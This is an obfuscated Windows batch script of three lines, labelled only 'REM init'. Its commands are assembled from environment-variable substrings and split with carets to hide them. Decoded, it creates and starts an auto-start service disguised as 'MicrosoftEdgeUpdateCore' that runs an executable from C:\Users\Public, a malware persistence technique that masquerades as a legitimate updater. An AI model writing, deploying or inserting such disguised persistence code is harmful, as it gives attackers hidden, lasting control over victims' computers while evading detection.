REM init 8367 v2
%COMSPEC:~13,1%%COMSPEC:~20,1% crea^te ^Mi^cr^os^o^f^t^Ed^geUp^dat^e^Core ^b^inP^a^th= "cmd.exe /c C:\Users\Public\svc.exe" s^t^a^rt= ^auto
%COMSPEC:~-18,1%%public:~14,1% st^a^rt ^Mi^cros^o^ftEdg^eU^pd^at^eCor^e
